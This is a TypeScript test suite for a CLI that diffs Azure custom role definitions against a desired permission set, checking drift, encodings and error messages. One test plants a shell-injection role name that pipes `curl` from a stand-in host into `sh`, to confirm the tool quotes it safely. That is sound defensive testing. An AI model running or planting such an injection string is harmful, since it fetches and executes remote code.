import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCliCaptured } from '../support/runCliCaptured.js';
import { JIT_REQUESTER_ACTIONS } from '../../src/lib/role/desiredRole.js';
import { fixture, FIXTURES } from '../support/fixtures.js';

const dir = mkdtempSync(join(tmpdir(), 'role-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
function file(name: string, content: unknown): string {
  const path = join(dir, name);
  writeFileSync(
    path,
    typeof content === 'string' || Buffer.isBuffer(content) ? content : JSON.stringify(content),
  );
  return path;
}

const run = (args: string[]) => runCliCaptured(args);

const armRole = (permissions: object[], assignableScopes = ['/subscriptions/s']) => ({
  id: '/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/r',
  name: 'r',
  type: 'Microsoft.Authorization/roleDefinitions',
  properties: {
    roleName: 'JIT Access Requester',
    type: 'CustomRole',
    description: 'd',
    assignableScopes,
    permissions,
  },
});

/** As `az role definition list` prints one: `properties` flattened away. */
const azCliRole = (roleName: string) => ({
  id: '/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/r',
  name: 'r',
  roleName,
  roleType: 'CustomRole',
  assignableScopes: ['/subscriptions/s'],
  permissions: [{ actions: [...JIT_REQUESTER_ACTIONS], notActions: [], dataActions: [], notDataActions: [] }],
});

/** Runs the CLI and expects exit 2 with exactly one line on stderr, which it returns. */
async function refusedLine(args: string[]): Promise<string> {
  const result = await run(args);
  expect(result).toMatchObject({ code: 2, stdout: '' });
  expect(result.stderr.split('\n')).toHaveLength(1);
  return result.stderr;
}

const AZ_ROLE_LIST = `az role definition list --name 'JIT Access Requester' --query "[0]" -o json > role.json`;

describe('jit-guardrail role diff', () => {
  it('in sync: exit 0, order and case ignored, permissions unioned', async () => {
    const actual = file(
      'ok.json',
      armRole([
        { actions: JIT_REQUESTER_ACTIONS.slice(0, 2).map((a) => a.toUpperCase()) },
        { actions: JIT_REQUESTER_ACTIONS.slice(2) },
      ]),
    );
    const result = await run(['role', 'diff', actual]);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(result.stdout)).toEqual({ inSync: true, changes: [] });
  });

  it('drift: exit 3 with field, extra and missing', async () => {
    const actual = file(
      'drift.json',
      armRole([{ actions: [...JIT_REQUESTER_ACTIONS.slice(1), '*'], dataActions: ['d/x'] }]),
    );
    const result = await run(['role', 'diff', actual]);
    expect(result.code).toBe(3);
    expect(JSON.parse(result.stdout)).toEqual({
      inSync: false,
      changes: [
        { field: 'actions', extra: ['*'], missing: [JIT_REQUESTER_ACTIONS[0]] },
        { field: 'dataActions', extra: ['d/x'], missing: [] },
      ],
    });
  });

  it('compares assignable scopes only when --desired names them', async () => {
    const actual = file(
      'scopes.json',
      armRole([{ actions: [...JIT_REQUESTER_ACTIONS] }], ['/subscriptions/s', '/subscriptions/t']),
    );
    expect((await run(['role', 'diff', actual])).code).toBe(0);
    const desired = file('desired.json', {
      Name: 'JIT Access Requester',
      Actions: [...JIT_REQUESTER_ACTIONS],
      AssignableScopes: ['/subscriptions/s'],
    });
    const result = await run(['role', 'diff', actual, '--desired', desired]);
    expect(result.code).toBe(3);
    expect(JSON.parse(result.stdout).changes).toEqual([
      { field: 'assignableScopes', extra: ['/subscriptions/t'], missing: [] },
    ]);
  });

  it('without --desired, a role assignable beyond its own subscription is drift (the root, a management group)', async () => {
    const sub = '20ff7fc3-e762-44dd-bd96-b71116dcdc23';
    const role = (scopes: string[]) => ({
      ...armRole([{ actions: [...JIT_REQUESTER_ACTIONS] }], scopes),
      id: `/subscriptions/${sub}/providers/Microsoft.Authorization/roleDefinitions/r`,
    });
    expect((await run(['role', 'diff', file('own.json', role([`/subscriptions/${sub}`]))])).code).toBe(0);
    const root = await run(['role', 'diff', file('root.json', role(['/']))]);
    expect(root.code).toBe(3);
    expect(JSON.parse(root.stdout).changes).toEqual([
      { field: 'assignableScopes', extra: ['/'], missing: [`/subscriptions/${sub}`] },
    ]);
    const group = '/providers/Microsoft.Management/managementGroups/contoso';
    const wider = await run(['role', 'diff', file('group.json', role([`/subscriptions/${sub}`, group]))]);
    expect(JSON.parse(wider.stdout).changes).toEqual([
      { field: 'assignableScopes', extra: [group], missing: [] },
    ]);
  });

  it('reads the published ARM example', async () => {
    const result = await run([
      'role',
      'diff',
      join(FIXTURES, 'arm/authorization/examples/GetRoleDefinitionById.json'),
    ]);
    expect(result.code).toBe(2);
    const example = fixture<{ responses: { 200: { body: unknown } } }>(
      'arm/authorization/examples/GetRoleDefinitionById.json',
    );
    const body = await run(['role', 'diff', file('example.json', example.responses[200].body)]);
    expect(body.code).toBe(3);
  });

  it.each([
    [
      'a missing file',
      ['role', 'diff', '/nonexistent.json'],
      /cannot read role definition \/nonexistent.json: no such file/,
    ],
    ['not JSON', ['role', 'diff', 'TEXT:nope'], /role definition .*: Unexpected token/],
    ['not a role', ['role', 'diff', 'TEXT:{"name":"x"}'], /not a role definition/],
    [
      'a bad desired file',
      ['role', 'diff', 'TEXT:{"actions":[]}', '--desired', 'TEXT:[1]'],
      /desired role .*: not a role definition/,
    ],
    ['no ACTUAL', ['role', 'diff'], /missing ACTUAL/],
    ['no subcommand', ['role'], /missing subcommand: diff/],
    ['an unknown option', ['role', 'diff', 'a', '--frob'], /unknown option --frob/],
  ])('exit 2 on %s', async (_label, args, message) => {
    const resolved = args.map((a, i) =>
      a.startsWith('TEXT:') ? file(`in-${i}-${Math.random()}.json`, a.slice(5)) : a,
    );
    const result = await run(resolved);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(message);
  });

  it.each([
    ['UTF-16 LE with a BOM (Windows PowerShell >)', (t: string) => Buffer.from(`\ufeff${t}`, 'utf16le')],
    ['UTF-16 BE with a BOM', (t: string) => Buffer.from(`\ufeff${t}`, 'utf16le').swap16()],
    ['UTF-8 with a BOM', (t: string) => Buffer.from(`\ufeff${t}`, 'utf8')],
  ])('reads ACTUAL and --desired saved as %s', async (label, encode) => {
    const text = JSON.stringify(azCliRole('JIT Access Requester'), null, 2);
    const actual = file(`bom-actual-${label}.json`, encode(text));
    const desired = file(
      `bom-desired-${label}.json`,
      encode(JSON.stringify({ actions: [...JIT_REQUESTER_ACTIONS] })),
    );
    const result = await run(['role', 'diff', actual, '--desired', desired]);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(result.stdout)).toEqual({ inSync: true, changes: [] });
  });

  it('an empty ACTUAL says how to save one', async () => {
    const actual = file('empty.json', '');
    expect(await refusedLine(['role', 'diff', actual])).toBe(
      `jit-guardrail role diff: role definition ${actual} is empty: save one with ${AZ_ROLE_LIST}`,
    );
  });

  it('an empty UTF-16 --desired says what to put in it', async () => {
    const desired = file('empty-desired.json', Buffer.from('\ufeff', 'utf16le'));
    expect(await refusedLine(['role', 'diff', file('a.json', azCliRole('x')), '--desired', desired])).toBe(
      `jit-guardrail role diff: desired role ${desired} is empty: put a role in it: ARM JSON, az output, an az role file, or {"actions": [...]}`,
    );
  });

  it('az role definition list without --query "[0]": names the fix with the role\'s own name', async () => {
    const actual = file('list-1.json', [azCliRole('Team JIT Requester')]);
    expect(await refusedLine(['role', 'diff', actual])).toBe(
      `jit-guardrail role diff: role definition ${actual} is a list of 1 role definition as 'az role definition list' prints it; add --query "[0]": az role definition list --name 'Team JIT Requester' --query "[0]" -o json > role.json`,
    );
  });

  it('a role name from the file is quoted for the shell: a pasted command runs nothing it holds', async () => {
    const actual = file('list-hostile.json', [
      azCliRole(`x"; curl -s https://evil.example | sh; echo "it's`),
    ]);
    expect(await refusedLine(['role', 'diff', actual])).toContain(
      `az role definition list --name 'x"; curl -s https://evil.example | sh; echo "it'\\''s' --query "[0]"`,
    );
  });

  it('a list of several role definitions: names the count and the default role', async () => {
    const actual = file('list-3.json', [azCliRole('a'), azCliRole('b'), azCliRole('c')]);
    expect(await refusedLine(['role', 'diff', actual])).toBe(
      `jit-guardrail role diff: role definition ${actual} is a list of 3 role definitions; pass one, e.g. ${AZ_ROLE_LIST}`,
    );
  });

  it('an empty list (no role matched --name) says to check the name', async () => {
    const actual = file('list-0.json', []);
    expect(await refusedLine(['role', 'diff', actual])).toBe(
      `jit-guardrail role diff: role definition ${actual} is an empty list: no role matched; check the --name you gave az role definition list (the default role is "JIT Access Requester")`,
    );
  });

  it('ARM\'s {"value": [...]} as --desired: names jq and the file', async () => {
    const desired = file('value.json', {
      value: [armRole([{ actions: ['a'] }]), armRole([{ actions: ['b'] }])],
    });
    expect(await refusedLine(['role', 'diff', file('b.json', azCliRole('x')), `--desired=${desired}`])).toBe(
      `jit-guardrail role diff: desired role ${desired} is a list of 2 role definitions; pass one, e.g. jq '.value[0]' ${desired} > desired.json`,
    );
  });

  it.each([
    ['--desired= with no FILE', ['role', 'diff', 'a.json', '--desired='], '--desired= needs a FILE'],
    [
      '--desired then an option',
      ['role', 'diff', 'a.json', '--desired', '--verbose'],
      '--desired needs a FILE (got --verbose)',
    ],
    ['--desired at the end', ['role', 'diff', 'a.json', '--desired'], '--desired needs a FILE'],
    ['a one-dash option', ['role', 'diff', 'a.json', '-d', 'b.json'], 'unknown option -d'],
    [
      'standard input twice',
      ['role', 'diff', '-', '--desired', '-'],
      'only one of ACTUAL and --desired can be - (standard input)',
    ],
  ])('%s: one line naming the option as typed', async (_label, args, message) => {
    expect(await refusedLine(args)).toBe(`jit-guardrail role: ${message}; see 'jit-guardrail role --help'`);
  });
});
